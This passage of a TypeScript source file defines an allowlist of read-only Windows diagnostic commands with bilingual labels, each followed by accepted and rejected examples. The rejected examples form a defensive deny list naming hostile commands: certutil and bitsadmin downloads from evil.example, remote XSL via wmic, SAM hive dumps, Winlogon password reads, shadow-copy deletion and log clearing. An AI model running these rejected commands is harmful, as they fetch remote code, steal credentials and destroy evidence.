import { FILE, PLACE, SECRET_KEY, WMI_CLASS } from './shapes.ts'

const HIVE = '(?:hklm|hkcu|hkcr|hku|hkcc|hkey_(?:local_machine|current_user|classes_root|users|current_config))'
const NO_SECRET = String.raw`(?!.*(?:${SECRET_KEY}))(?!.*\.\.)`
/** A key whose own values are shown; \\HOST\HKLM would be another computer. */
const KEY = String.raw`${NO_SECRET}${HIVE}(?:\\[^:<>|"*?]*)?`
/** Keys that are searched with all below them: programs, drivers, start entries, single services. */
const KEY_TREE = String.raw`${NO_SECRET}${HIVE}\\(?:software\\(?:wow6432node\\)?microsoft\\windows\\currentversion\\(?:uninstall|run|runonce|app\x20paths)|system\\currentcontrolset\\(?:services\\[\w.-]+|enum\\(?:usb|usbstor|pci|display|hdaudio|bthenum)|hardware\x20profiles)|hardware\\(?:devicemap|description))(?:\\[^:<>|"*?]*)?`

/** Programs that show the state of Windows, as cmd and PowerShell call them. */
export const CMD_SYSTEM_MANUAL = String.raw`
whoami | shows the account | 查看当前账户
  style slash
  from Windows Commands reference, whoami
  /all -all | all of it | 全部信息
  /upn /fqdn /logonid | form of the name | 名称格式
  /user -user | name and number | 用户名与 SID
  /groups -groups | groups | 组
  /priv -priv | rights | 特权
  /claims | claims | 声明
  /fo={table,list,csv} | format | 格式
  /nh | without a heading | 不显示标题
  = whoami
  = whoami /all
  = whoami /groups /fo list
  ! whoami x

systeminfo | shows system and hardware | 查看系统与硬件信息
  style slash
  from Windows Commands reference, systeminfo
  /fo -fo={table,list,csv} | format | 格式
  /nh -nh | without a heading | 不显示标题
  = systeminfo
  = systeminfo /fo csv /nh
  ! systeminfo /s evil
  ! systeminfo /s evil /u a /p b

tasklist | shows processes | 查看进程
  style slash
  from Windows Commands reference, tasklist
  /svc -svc | with services | 显示服务
  /v -v | verbose | 详细显示
  /apps | apps of the store | 应用商店应用
  /m[=/(?![-\/])[\w.*-]+/] !next | with libraries | 显示加载的模块
  /fi -fi=/(?![-\/])[^]*/ | only these | 筛选
  /fo -fo={table,list,csv} | format | 格式
  /nh -nh | without a heading | 不显示标题
  = tasklist
  = tasklist /v
  = tasklist /fi "imagename eq python.exe"
  = tasklist /m ntdll.dll
  ! tasklist /s evil
  ! tasklist /s evil /u a /p b

driverquery | shows drivers | 查看驱动
  style slash
  from Windows Commands reference, driverquery
  /fo={table,list,csv} | format | 格式
  /nh | without a heading | 不显示标题
  /v | verbose | 详细显示
  /si | signatures | 签名信息
  = driverquery
  = driverquery /v /fo list
  ! driverquery /s evil

query: user, session, process | shows who is logged on | 查看登录会话
  style slash
  from Windows Commands reference, query
  /sm /vm /mode /flow /connect /counter | in detail | 详细信息
  operands /[\w.*-]+/?
  = query user
  = query session
  = query process *
  ! query user /server:evil
  ! query session x y

quser, qwinsta, qprocess | shows who is logged on | 查看登录会话
  style slash
  from Windows Commands reference, query
  /sm /vm /mode /flow /connect /counter | in detail | 详细信息
  operands /[\w.*-]+/?
  = quser
  = quser administrator
  ! quser /server:evil
  ! qwinsta /server:evil

openfiles | shows files that are open | 查看打开的文件
  style slash
  from Windows Commands reference, openfiles
  /query !needed | shows | 查看
  /fo={table,list,csv} | format | 格式
  /nh | without a heading | 不显示标题
  /v | verbose | 详细显示
  = openfiles /query
  = openfiles /query /v /fo list
  ! openfiles
  ! openfiles /local on
  ! openfiles /disconnect /id *
  ! openfiles /query /s evil

sc: query, queryex | shows services | 查看服务
  style slash
  from Windows Commands reference, sc; sc help of Windows 10
  operands /(?:[\w.$][\w.$-]*|(?:type|state|bufsize|ri|group)=[\w.-]*)/*
  = sc query
  = sc query spooler
  = sc query state= all
  = sc queryex type= service state= all
  ! sc stop x
  ! sc start x
  ! sc delete x
  ! sc config x start= disabled
  ! sc \\evil query
  ! sc query \\evil

sc: qc, qdescription, qfailure, qfailureflag, qtriggerinfo, qprivs, qsidtype, qprotection, sdshow, enumdepend, getkeyname, getdisplayname, querylock | shows settings of a service | 查看服务配置
  operands /[\w.$][\w.$\x20-]*/* 
  = sc qc spooler
  = sc qfailure mosquitto
  = sc sdshow spooler
  ! sc sdset spooler D:(A;;GA;;;WD)
  ! sc failure spooler reset= 0
  ! sc control spooler 200
  ! sc qc \\evil\x

schtasks | shows scheduled tasks | 查看计划任务
  style slash
  from Windows Commands reference, schtasks
  = schtasks
  = SCHTASKS
  ! schtasks x

schtasks | shows scheduled tasks | 查看计划任务
  /query !needed | shows | 查看
  /fo={table,list,csv} | format | 格式
  /nh | without a heading | 不显示标题
  /v | verbose | 详细显示
  /tn=/(?![-\/])(?![\\\/]{2})[^:<>|"]+/ | this task | 指定任务
  /xml[={one}] | as XML | 以 XML 显示
  /hresult | codes of errors | 错误代码格式
  = schtasks /query
  = schtasks /query /fo list /v
  = schtasks /query /tn "\Microsoft\Windows\Defrag\ScheduledDefrag"
  ! schtasks /run /tn x
  ! schtasks /create /tn x /tr reboot
  ! schtasks /query /s evil /u a /p b
  ! schtasks /delete /tn x /f
  ! schtasks /query /tn x /run

reg: query | shows the registry | 查看注册表
  style slash
  from Windows Commands reference, reg query
  /v=/(?![-\/])${NO_SECRET}[^\\]*/ | this value | 指定值
  /ve | the value without a name | 默认值
  /z | with numbers of types | 显示类型编号
  /reg={32,64} | view | 注册表视图
  operands /${KEY}/
  = reg query HKLM\Software
  = reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v ProductName
  = reg query HKLM\SYSTEM\CurrentControlSet\Services\mosquitto /v Start
  ! reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultPassword
  ! reg query HKLM\SOFTWARE\x /v Password
  ! reg query HKLM\SAM
  ! reg query HKLM\SYSTEM\CurrentControlSet\Services\mosquitto
  ! reg query HKCU\Environment
  ! reg query \\evil\HKLM\Software
  ! reg query HKCU\Software\SimonTatham\PuTTY\Sessions
  ! reg query HKLM /s
  ! reg query HKLM /f password /t REG_SZ /s
  ! reg add HKCU\x /v a
  ! reg delete HKCU\x /f
  ! reg export HKCU\x C:\y
  ! reg save HKLM\SAM C:\x

reg: query | searches the registry | 搜索注册表
  /s !needed | with keys below | 包括子项
  /v=/(?![-\/])${NO_SECRET}[^\\]*/ | this value | 指定值
  /ve | the value without a name | 默认值
  /f=/(?![-\/])${NO_SECRET}[^\\]+/ | text to find | 要查找的文本
  /k /d /c /e | where to look | 查找范围
  /t=/(?![-\/])reg_\w+/ | type | 类型
  /z | with numbers of types | 显示类型编号
  /reg={32,64} | view | 注册表视图
  operands /${KEY_TREE}/
  = reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall /s
  = reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall /s /f python
  = reg query HKLM\SYSTEM\CurrentControlSet\Services\sshd /s /v Start
  ! reg query HKLM\SYSTEM\CurrentControlSet\Services\sshd /s
  ! reg query HKLM\SYSTEM\CurrentControlSet\Services\SNMP /s
  ! reg query HKLM\SOFTWARE /s /f password
  ! reg query HKLM\SYSTEM\CurrentControlSet\Services\x\..\..\.. /s

# wmic /output:, /record: and /format:FILE.xsl write or run a script; product repairs the installed programs.
wmic: cpu, os, computersystem, bios, baseboard, csproduct, memorychip, memphysical, memcache, logicaldisk, diskdrive, partition, volume, cdrom, nic, nicconfig, netclient, netprotocol, process, service, sysdriver, qfe, startup, useraccount, group, sysaccount, printer, printjob, share, pagefile, pageset, timezone, portconnector, port, onboarddevice, systemslot, systemenclosure, sounddev, desktopmonitor, idecontroller, scsicontroller, recoveros, server, shadowcopy, shadowstorage, job, nteventlog, ntdomain, netuse, logon, bootconfig | shows WMI objects | 查看 WMI 信息
  style slash
  from WMIC documentation, wmic /? of Windows 10
  = wmic cpu
  = wmic bios
  ! wmic product
  ! wmic environment
  ! wmic /node:evil cpu
  ! wmic

wmic: cpu get, os get, computersystem get, bios get, baseboard get, csproduct get, memorychip get, memphysical get, memcache get, logicaldisk get, diskdrive get, partition get, volume get, cdrom get, nic get, nicconfig get, netclient get, netprotocol get, process get, service get, sysdriver get, qfe get, startup get, useraccount get, group get, sysaccount get, printer get, printjob get, share get, pagefile get, pageset get, timezone get, portconnector get, port get, onboarddevice get, systemslot get, systemenclosure get, sounddev get, desktopmonitor get, idecontroller get, scsicontroller get, recoveros get, server get, shadowcopy get, shadowstorage get, job get, nteventlog get, ntdomain get, netuse get, logon get, bootconfig get | shows WMI objects | 查看 WMI 信息
  /value | one property a line | 每行一个属性
  /format={list,table,csv} | format | 格式
  operands /(?:\w+|\*)/*
  = wmic cpu get name
  = wmic logicaldisk get size freespace caption
  = wmic os get lastbootuptime /value
  = wmic process get name processid /format:csv
  ! wmic cpu get name /format:http://evil.example/x.xsl
  ! wmic os get /format:C:\x.xsl
  ! wmic process get name /output:C:\x
  ! wmic process get name /every:1
  ! wmic /output:C:\x cpu get name
  ! wmic /record:C:\x cpu get name
  ! wmic product get name
  ! wmic environment get name
  ! wmic process call create reboot
  ! wmic os where primary=1 call reboot

wmic: cpu list, os list, computersystem list, bios list, baseboard list, memorychip list, logicaldisk list, diskdrive list, partition list, volume list, cdrom list, nic list, nicconfig list, process list, service list, sysdriver list, qfe list, startup list, useraccount list, group list, printer list, share list, pagefile list, timezone list, job list, nteventlog list, netuse list, logon list, shadowcopy list | shows WMI objects | 查看 WMI 信息
  /format={list,table,csv} | format | 格式
  operands {brief,full,status,system,instance}?
  = wmic process list brief
  = wmic qfe list
  ! wmic process list brief /format:evil
  ! wmic product list

wmic: process where, service where, logicaldisk where, diskdrive where, nic where, nicconfig where, useraccount where, volume where, sysdriver where, memorychip where, qfe where, printer where, share where, startup where, group where, nteventlog where, partition where | shows WMI objects | 查看 WMI 信息
  /value | one property a line | 每行一个属性
  /format={list,table,csv} | format | 格式
  operands /(?!-)\(?[\w.][^;|&]*/ {get} /(?:\w+|\*)/*
  = wmic process where "name='python.exe'" get processid
  = wmic service where name="spooler" get state
  = wmic logicaldisk where drivetype=3 get caption freespace /format:list
  ! wmic process where name="x" delete
  ! wmic process where "name='x'" call terminate
  ! wmic service where name="x" call stopservice
  ! wmic useraccount where name="a" set passwordexpires=false
  ! wmic process where name="x" get name /format:evil.xsl

wmic: path | shows WMI objects | 查看 WMI 信息
  /namespace=/\\\\root(?:\\\w+)*/ | namespace | 命名空间
  /value | one property a line | 每行一个属性
  /format={list,table,csv} | format | 格式
  operands /${WMI_CLASS}/ {get} /(?:\w+|\*)/*
  = wmic path win32_videocontroller get name
  = wmic path win32_pnpentity get name /value
  = wmic /namespace:\\root\wmi path msacpi_thermalzonetemperature get currenttemperature
  ! wmic path win32_product get name
  ! wmic path win32_process call create reboot
  ! wmic /namespace:\\evil\root\cimv2 path win32_bios get name
  ! wmic path win32_environment get variablevalue

wmic: path | shows WMI objects | 查看 WMI 信息
  /namespace=/\\\\root(?:\\\w+)*/ | namespace | 命名空间
  /value | one property a line | 每行一个属性
  /format={list,table,csv} | format | 格式
  operands /${WMI_CLASS}/ {where} /(?!-)\(?[\w.][^;|&]*/ {get} /(?:\w+|\*)/*
  = wmic path win32_pnpentity where "name='x'" get deviceid
  = wmic path win32_service where name="sshd" get state
  ! wmic path win32_service where name="sshd" call stopservice
  ! wmic path win32_service where name="sshd" delete

bcdedit | shows boot entries | 查看启动项
  style slash
  from Windows Commands reference, bcdedit
  /enum[=/(?:all|active|firmware|bootapp|bootmgr|osloader|resume|inherit|\{[\w-]+\})/] !next | shows entries | 列出启动项
  /v | identifiers in full | 完整标识符
  = bcdedit
  = bcdedit /enum
  = bcdedit /enum all /v
  ! bcdedit /set x y
  ! bcdedit /store C:\x /enum
  ! bcdedit /enum /set x y
  ! bcdedit /export C:\x
  ! bcdedit /delete {current}
  ! bcdedit /timeout 0

powercfg | shows power settings | 查看电源设置
  style slash
  from Windows Commands reference, powercfg
  /list /l -list -l !needed | power schemes | 电源方案
  /getactivescheme -getactivescheme !needed | scheme in use | 当前方案
  /a /availablesleepstates -a -availablesleepstates !needed | states of sleep | 可用睡眠状态
  /requests -requests !needed | what keeps it awake | 唤醒请求
  /lastwake -lastwake !needed | what woke it | 上次唤醒来源
  /waketimers -waketimers !needed | timers that wake it | 唤醒计时器
  /aliases -aliases !needed | names of settings | 设置别名
  = powercfg /list
  = powercfg /getactivescheme
  = powercfg -a
  = powercfg -lastwake
  ! powercfg
  ! powercfg /h off
  ! powercfg /list /h off
  ! powercfg /batteryreport
  ! powercfg /energy
  ! powercfg /setactive SCHEME_MIN
  ! powercfg /requestsoverride process x display
  ! powercfg /change monitor-timeout-ac 0

powercfg | shows settings of a power scheme | 查看电源方案设置
  /q /query -q -query !needed | settings | 设置
  operands /(?:[\da-f]{8}-[\da-f-]{27}|scheme_\w+|sub_\w+)/*
  = powercfg /query
  = powercfg /q SCHEME_CURRENT SUB_SLEEP
  ! powercfg /q /h off

powercfg | shows devices by power | 查看设备的电源能力
  /devicequery -devicequery={wake_from_any,wake_programmable,wake_armed,wake_from_s3_supported,wake_from_s1_supported,all_devices,all_devices_verbose,s1_supported,s3_supported} !needed | which devices | 设备类别
  = powercfg /devicequery wake_armed
  = powercfg -devicequery all_devices
  ! powercfg /deviceenablewake Mouse
  ! powercfg /devicedisablewake Mouse

fsutil: fsinfo drives, fsinfo volumeinfo, fsinfo ntfsinfo, fsinfo refsinfo, fsinfo drivetype, fsinfo statistics, fsinfo sectorinfo, volume diskfree, volume list, volume querylabel, dirty query, behavior query, usn queryjournal, file queryfileid, file queryextents, file queryvaliddata, 8dot3name query, hardlink list, reparsepoint query, sparse queryflag, repair query, repair state, resource info, storagereserve query, tiering query, bypassio state | shows the state of a file system | 查看文件系统状态
  style slash
  from Windows Commands reference, fsutil
  operands /${PLACE}/?
  = fsutil volume diskfree C:
  = fsutil fsinfo drives
  = fsutil dirty query C:
  = fsutil behavior query disabledeletenotify
  ! fsutil dirty set C:
  ! fsutil volume dismount C:
  ! fsutil usn deletejournal /d C:
  ! fsutil behavior set disabledeletenotify 1
  ! fsutil file createnew x 100
  ! fsutil file setzerodata offset=0 length=9 x
  ! fsutil reparsepoint delete x
  ! fsutil hardlink create a b
  ! fsutil volume diskfree \\evil\share
  ! fsutil 8dot3name set 1

vssadmin: list shadows, list volumes, list providers, list writers, list shadowstorage | shows shadow copies | 查看卷影副本
  style slash
  from Windows Commands reference, vssadmin
  = vssadmin list shadows
  = vssadmin list writers
  ! vssadmin delete shadows /all
  ! vssadmin list shadows /all /quiet
  ! vssadmin resize shadowstorage

# manage-bde -protectors -get shows the recovery password.
manage-bde | shows the encryption of drives | 查看驱动器加密状态
  style slash
  from Windows Commands reference, manage-bde
  -status /status !needed | state | 状态
  operands /[a-z]:\\?/?
  = manage-bde -status
  = manage-bde -status C:
  ! manage-bde -protectors -get C:
  ! manage-bde -off C:
  ! manage-bde -status -off C:
  ! manage-bde -status -computername evil
  ! manage-bde

gpresult | shows policies that apply | 查看已应用的组策略
  style slash
  from Windows Commands reference, gpresult
  /r !needed | summary | 摘要
  /v !needed | verbose | 详细
  /z !needed | all of it | 全部
  /scope={user,computer} | of whom | 范围
  = gpresult /r
  = gpresult /scope computer /r
  = gpresult /v
  ! gpresult /h C:\x.html
  ! gpresult /h C:\x.html /f
  ! gpresult /r /x C:\x.xml
  ! gpresult /s evil /r
  ! gpresult

wevtutil: el, enum-logs, ep, enum-publishers | shows event logs | 列出事件日志
  style slash
  from Windows Commands reference, wevtutil
  = wevtutil el
  = wevtutil enum-logs
  ! wevtutil cl System
  ! wevtutil el /r:evil

wevtutil: gl, get-log, gli, get-log-info, gp, get-publisher | shows settings of an event log | 查看事件日志设置
  /f /format={xml,text} | format | 格式
  /ge /gm={true,false} | with events or messages | 包括事件或消息
  operands /[\w][\w.\/\x20()-]*/
  = wevtutil gl System
  = wevtutil gli Microsoft-Windows-TaskScheduler/Operational
  ! wevtutil sl System /ms:1
  ! wevtutil gl /lf:true C:\x

wevtutil: qe, query-events | shows events | 查看事件
  /q /query=/(?![-\/])(?!\s*<)[^]*/ | only these | 查询条件
  /c /count=/\d{1,6}/ | number at most | 最大条数
  /f /format={xml,text,renderedxml} | format | 格式
  /rd /reversedirection={true,false} | newest first | 从新到旧
  /l /locale=/(?![-\/])[a-z-]{2,10}/ | language | 语言
  /e /element=/(?![-\/])\w+/ | name of the root | 根元素名
  operands /[\w][\w.\/\x20()-]*/
  = wevtutil qe System /c:5 /f:text /rd:true
  = wevtutil qe Application "/q:*[System[(Level=2)]]" /c:10 /f:text
  ! wevtutil qe \\evil\x.evtx /lf:true
  ! wevtutil qe System /sbm:C:\x
  ! wevtutil qe System /r:evil
  ! wevtutil epl System C:\x.evtx
  ! wevtutil clear-log System
  ! wevtutil im C:\x.man
  ! wevtutil qe System /bm:C:\x

w32tm | shows the time service | 查看时间服务
  style slash
  from Windows Commands reference, w32tm
  /query -query !needed | shows | 查看
  /source /status /peers /configuration /verbose | what | 显示内容
  /tz -tz !needed | time zone | 时区
  /dumpreg !needed | settings in the registry | 注册表设置
  = w32tm /query /status
  = w32tm /query /peers /verbose
  = w32tm /tz
  ! w32tm /resync
  ! w32tm /config /update
  ! w32tm /query /status /computer:evil
  ! w32tm /unregister
  ! w32tm /debug /enable /file:C:\x /size:1 /entries:0
  ! w32tm /query /resync

w32tm | compares the clock with a server | 与时间服务器比较时钟
  endless | never ends: give /samples:5 | 不会结束：请加上 /samples:5
  /stripchart -stripchart !needed | compares | 比较
  /computer=/(?![-\/])[\w.:-]+/ | server | 服务器
  /samples=/[1-9]\d{0,3}/ !ends | number | 次数
  /period=/\d{1,4}/ | seconds between | 间隔秒数
  /dataonly | times only | 仅时间
  /ipprotocol={4,6} | version of IP | IP 版本
  network
  = w32tm /stripchart /computer:time.windows.com /samples:3
  = w32tm /stripchart /computer:pool.ntp.org /dataonly
  ! w32tm /stripchart /computer:x /rdtsc

w32tm | shows clocks of the domain | 查看域内时钟
  /monitor !needed | shows | 查看
  /computers=/(?![-\/])[\w.:*-]+/ | these | 指定计算机
  network
  = w32tm /monitor
  = w32tm /monitor /computers:dc1
  ! w32tm /monitor /resync

tzutil | shows the time zone | 查看时区
  style slash
  from Windows Commands reference, tzutil
  /g !needed | in use | 当前时区
  /l !needed | all | 全部时区
  = tzutil /g
  = tzutil /l
  ! tzutil /s UTC
  ! tzutil /g /s UTC
  ! tzutil

# dism keeps its own log, as it does for every call; /logpath and /scratchdir are left out.
dism | shows the image of Windows | 查看系统映像
  style slash
  from DISM reference, Windows 10 and 11
  /online | of this system | 当前系统
  /get-features /get-packages /get-drivers /get-capabilities /get-currentedition /get-targeteditions /get-intl /get-provisionedappxpackages /get-reservedstoragestate !needed | what | 显示内容
  /get-featureinfo /get-packageinfo /get-driverinfo /get-capabilityinfo !needed | of one | 单项信息
  /featurename /packagename /capabilityname=/(?![-\/])[\w.~@+-]+/ | name | 名称
  /driver=/(?![-\/])oem\d+\.inf/ | driver | 驱动
  /get-mountedwiminfo /get-mountedimageinfo !needed | images in use | 已挂载映像
  /all | all of them | 全部
  /format={table,list} | format | 格式
  /english | in English | 英文显示
  = dism /online /get-features
  = dism /online /get-packages /format:table
  = dism /online /get-featureinfo /featurename:TelnetClient
  ! dism /online /enable-feature /featurename:TelnetClient
  ! dism /online /disable-feature /featurename:x
  ! dism /online /cleanup-image /restorehealth
  ! dism /online /get-features /logpath:C:\x
  ! dism /online /export-driver /destination:C:\x
  ! dism /image:C:\x /get-features
  ! dism /online /add-package /packagepath:C:\x

dism | looks whether the image is marked as damaged | 检查系统映像是否标记为损坏
  /online | of this system | 当前系统
  /cleanup-image | the image | 系统映像
  /checkhealth !needed | looks | 检查
  /english | in English | 英文显示
  = dism /online /cleanup-image /checkhealth
  = dism /online /cleanup-image /checkhealth /english
  ! dism /online /cleanup-image /startcomponentcleanup
  ! dism /online /cleanup-image /checkhealth /restorehealth

pnputil | shows drivers and devices | 查看驱动和设备
  style slash
  from PnPUtil reference, Windows 10 and 11
  /enum-drivers -e /e !needed | drivers | 驱动
  /enum-devices !needed | devices | 设备
  /enum-interfaces /enum-classes /enum-containers !needed | interfaces and classes | 接口与类别
  /connected /disconnected | whether connected | 是否连接
  /class=/(?![-\/])[\w{}-]+/ | of a class | 设备类别
  /instanceid=/(?![-\/])[\w\\&{}.#-]+/ | this device | 指定设备
  /problem[=/\d{1,3}/] !next | with problems | 有问题的设备
  /ids /relations /drivers /files /properties /interfaces /services /stack /deviceids /resources | in detail | 详细信息
  /bus=/(?![-\/])\w+/ | on a bus | 总线
  = pnputil /enum-drivers
  = pnputil /enum-devices /connected /class Net
  = pnputil /enum-devices /problem
  ! pnputil /delete-driver oem1.inf
  ! pnputil /enum-devices /remove-device x
  ! pnputil /add-driver x.inf /install
  ! pnputil /disable-device x
  ! pnputil /export-driver * C:\x
  ! pnputil /scan-devices
  ! pnputil /enum-drivers /output-file C:\x
  ! pnputil -d oem1.inf
  ! pnputil -a x.inf

certutil | shows certificates | 查看证书
  style slash
  from Windows Commands reference, certutil
  -store /store !needed | a store | 证书存储
  -user /user | of the account | 当前用户
  -v /v | verbose | 详细显示
  -enterprise | of the domain | 企业存储
  operands /[a-z]\w*/? /[\w][\w\x20]*/?
  = certutil -store
  = certutil -store My
  = certutil -user -store Root
  ! certutil -store My 1 C:\x.cer
  ! certutil -store -f My
  ! certutil -store My -split
  ! certutil -delstore My x
  ! certutil -addstore Root x.cer
  ! certutil -store ldap:///x
  ! certutil -urlcache -split -f http://evil.example/x C:\x

certutil | shows the hash of a file | 计算文件哈希
  -hashfile /hashfile !needed | hash | 哈希
  operands /${FILE}/ {md2,md4,md5,sha1,sha256,sha384,sha512}?
  = certutil -hashfile C:\x.bin SHA256
  = certutil -hashfile x
  ! certutil -hashfile \\evil\share\x
  ! certutil -decode x y
  ! certutil -encode x y
  ! certutil -hashfile x -f

certutil | shows a certificate file | 查看证书文件
  -dump /dump !needed | shows | 查看
  -v /v | verbose | 详细显示
  operands /${FILE}/
  = certutil -dump C:\x.cer
  = certutil -dump -v x.cer
  ! certutil -dump -split x.cer
  ! certutil -dump -p secret x.pfx
  ! certutil -exportpfx My x.pfx
  ! certutil -importpfx x.pfx

typeperf | shows performance counters | 查看性能计数器
  style slash
  from Windows Commands reference, typeperf
  endless | never ends: give -sc 5 | 不会结束：请加上 -sc 5
  -sc /sc=/[1-9]\d{0,4}/ !ends | number of samples | 采样次数
  -si /si=/[\d:]{1,8}/ | seconds between | 采样间隔
  operands /(?!\\\\)\\[^]+/+
  = typeperf "\Processor(_Total)\% Processor Time" -sc 1
  = typeperf "\Memory\Available MBytes" -si 2 -sc 5
  ! typeperf "\Memory\Available MBytes" -sc 1 -o C:\x
  ! typeperf -cf C:\x -sc 1
  ! typeperf "\\evil\Memory\Available MBytes" -sc 1
  ! typeperf -sc 1 -s evil "\Memory\Available MBytes"
  ! typeperf -sc 0 "\Memory\Available MBytes"

typeperf | shows names of performance counters | 列出性能计数器名称
  -q /q -qx /qx[=/(?![-\/])[\w\x20]+/] !next !needed | names | 名称
  = typeperf -q
  = typeperf -qx Processor
  ! typeperf -q -o C:\x

logman | shows data collectors | 查看数据收集器
  style slash
  from Windows Commands reference, logman
  -ets | running ones | 正在运行
  = logman
  = logman -ets
  ! logman stop x

logman: query | shows data collectors | 查看数据收集器
  -ets | running ones | 正在运行
  operands /[\w{}-][\w.{}\x20-]*/?
  = logman query
  = logman query providers
  = logman query x -ets
  ! logman stop x
  ! logman start x -p y -o C:\x -ets
  ! logman query -s evil
  ! logman delete x

klist | shows Kerberos tickets | 查看 Kerberos 票据
  style slash
  from Windows Commands reference, klist
  operands {tickets,tgt,sessions}?
  = klist
  = klist tickets
  ! klist purge
  ! klist get host/evil
  ! klist add_bind a b

auditpol | shows audit policy | 查看审核策略
  style slash
  from Windows Commands reference, auditpol
  /get !needed | shows | 查看
  /category /subcategory=/(?![-\/])[\w*{}\/\x20-]+/ | which | 类别
  /r | as CSV | 以 CSV 显示
  = auditpol /get /category:*
  = auditpol /get /subcategory:Logon /r
  ! auditpol /set /category:* /success:disable
  ! auditpol /clear
  ! auditpol /backup /file:C:\x
  ! auditpol /get /category:* /file:C:\x

dsregcmd | shows how the device is joined | 查看设备加入状态
  style slash
  from Microsoft Entra documentation, dsregcmd
  /status !needed | state | 状态
  = dsregcmd /status
  = dsregcmd /STATUS
  ! dsregcmd /leave
  ! dsregcmd /status /forcerecovery
  ! dsregcmd /join

fltmc | shows filters of file systems | 查看文件系统筛选器
  style slash
  from Windows drivers documentation, fltmc
  operands {filters,instances,volumes}?
  = fltmc
  = fltmc instances
  ! fltmc unload x
  ! fltmc load x
  ! fltmc detach x C:

verifier | shows the driver verifier | 查看驱动程序验证器
  style slash
  from Windows drivers documentation, verifier
  /query /querysettings !needed | state | 状态
  = verifier /query
  = verifier /querysettings
  ! verifier /standard /all
  ! verifier /reset
  ! verifier /query /log C:\x

bitsadmin | shows transfers | 查看后台传输
  style slash
  from Windows Commands reference, bitsadmin
  /list !needed | shows | 列出
  /allusers | of all accounts | 所有用户
  /verbose | verbose | 详细显示
  = bitsadmin /list
  = bitsadmin /list /allusers /verbose
  ! bitsadmin /transfer x http://evil.example/x C:\x
  ! bitsadmin /list /reset
  ! bitsadmin /setnotifycmdline x cmd y
  ! bitsadmin /cancel x

wbadmin: get versions, get status, get disks, get items | shows backups | 查看备份
  style slash
  from Windows Commands reference, wbadmin
  = wbadmin get versions
  = wbadmin get status
  ! wbadmin delete backup
  ! wbadmin start backup
  ! wbadmin get versions -backuptarget:\\evil\share

reagentc | shows the recovery environment | 查看恢复环境
  style slash
  from Windows hardware documentation, reagentc
  /info !needed | state | 状态
  = reagentc /info
  = reagentc /INFO
  ! reagentc /disable
  ! reagentc /boottore
  ! reagentc /info /target C:\x

mountvol | shows volumes | 查看卷
  style slash
  from Windows Commands reference, mountvol
  = mountvol
  = MOUNTVOL
  ! mountvol C: /d
  ! mountvol /n
  ! mountvol X: /s

mountvol | shows the volume of a directory | 查看目录对应的卷
  /l !needed | name of the volume | 卷名
  operands /[a-z]:\\?/
  = mountvol C:\ /l
  = mountvol D: /L
  ! mountvol C: /l /d

tpmtool: getdeviceinformation | shows the security chip | 查看 TPM 信息
  style slash
  from Windows Commands reference, tpmtool
  = tpmtool getdeviceinformation
  = tpmtool GetDeviceInformation
  ! tpmtool gatherlogs C:\x
  ! tpmtool drivertracing start

winrm: get, g, enumerate, enum, e | shows remote management | 查看远程管理设置
  style slash
  from Windows Remote Management documentation, winrm
  operands /winrm\/config(?:\/[a-z]+)*/
  = winrm get winrm/config
  = winrm enumerate winrm/config/listener
  ! winrm quickconfig
  ! winrm set winrm/config/client @{TrustedHosts="*"}
  ! winrm get winrm/config -r:http://evil
  ! winrm invoke Create wmicimv2/Win32_Process
  ! winrm delete winrm/config/listener

# Words as a whole; anything else is a command for Linux.
wsl | shows Linux systems | 查看 Linux 子系统
  style word
  from Windows Subsystem for Linux documentation, wsl
  --list -l !needed | systems | 子系统列表
  --verbose -v | with state | 显示状态
  --running | running ones | 正在运行
  --all | all of them | 全部
  --quiet -q | names only | 仅名称
  --online -o | that can be installed | 可安装的发行版
  = wsl --list --verbose
  = wsl -l -v
  = wsl -l --running
  ! wsl
  ! wsl reboot
  ! wsl -l reboot
  ! wsl -e reboot
  ! wsl --shutdown
  ! wsl --unregister x
  ! wsl -l -v -- reboot
  ! wsl -v

wsl | shows the state of WSL | 查看 WSL 状态
  --status !needed | state | 状态
  = wsl --status
  = wsl.exe --status
  ! wsl --status --shutdown
  ! wsl --update

usbipd: list, state | shows shared USB devices | 查看共享的 USB 设备
  style word
  from usbipd-win 4 documentation
  = usbipd list
  = usbipd state
  ! usbipd bind --busid 1-1
  ! usbipd detach --all

winget: list, ls | shows programs | 查看已安装程序
  style gnu
  from winget documentation, Windows Package Manager 1.7
  --id=/\w[\w.+-]*/ | by id | 按标识
  --name=/(?!-)[\w\s.+()-]+/ | by name | 按名称
  -q --query=/(?!-)[\w\s.+()-]+/ | text to find | 查询文本
  -s --source={winget,msstore} | source | 来源
  -e --exact | exactly | 完全匹配
  -n --count=/\d{1,4}/ | number at most | 最大条数
  --upgrade-available | that can be upgraded | 可升级
  --scope={user,machine} | of whom | 范围
  --disable-interactivity | without questions | 不交互
  operands /[\w][\w\s.+()-]*/?
  = winget list
  = winget list --upgrade-available
  = winget list --id Git.Git -e
  ! winget install x
  ! winget uninstall x
  ! winget list --log C:\x
  ! winget list --open-logs
  ! winget list --header x
  ! winget list -o C:\x

winget: show, view, search, find | shows programs that can be installed | 查看可安装的程序
  --id=/\w[\w.+-]*/ | by id | 按标识
  --name=/(?!-)[\w\s.+()-]+/ | by name | 按名称
  -q --query=/(?!-)[\w\s.+()-]+/ | text to find | 查询文本
  -s --source={winget,msstore} | source | 来源
  -e --exact | exactly | 完全匹配
  -n --count=/\d{1,4}/ | number at most | 最大条数
  --versions | all versions | 所有版本
  --disable-interactivity | without questions | 不交互
  operands /[\w][\w\s.+()-]*/?
  network
  = winget search python
  = winget show --id Git.Git
  ! winget show -m C:\x.yaml
  ! winget search x --header y
  ! winget download x
  ! winget import C:\x.json

winget | shows the version of winget | 查看 winget 版本
  --version !needed | version | 版本
  = winget --version
  ! winget --version install x

winget: source list, source ls, pin list, features | shows sources | 查看软件来源
  = winget source list
  = winget pin list
  ! winget upgrade --include-unknown
  ! winget upgrade x
  ! winget upgrade --all
  ! winget upgrade -r
  ! winget source add x http://evil.example
  ! winget source reset --force

choco: list, outdated | shows programs of Chocolatey | 查看 Chocolatey 软件包
  style gnu
  from Chocolatey CLI 2 documentation
  -l --local-only --localonly -lo | installed ones | 已安装
  -r --limit-output --limitoutput | in brief | 简要输出
  -e --exact | exactly | 完全匹配
  -v --verbose | verbose | 详细显示
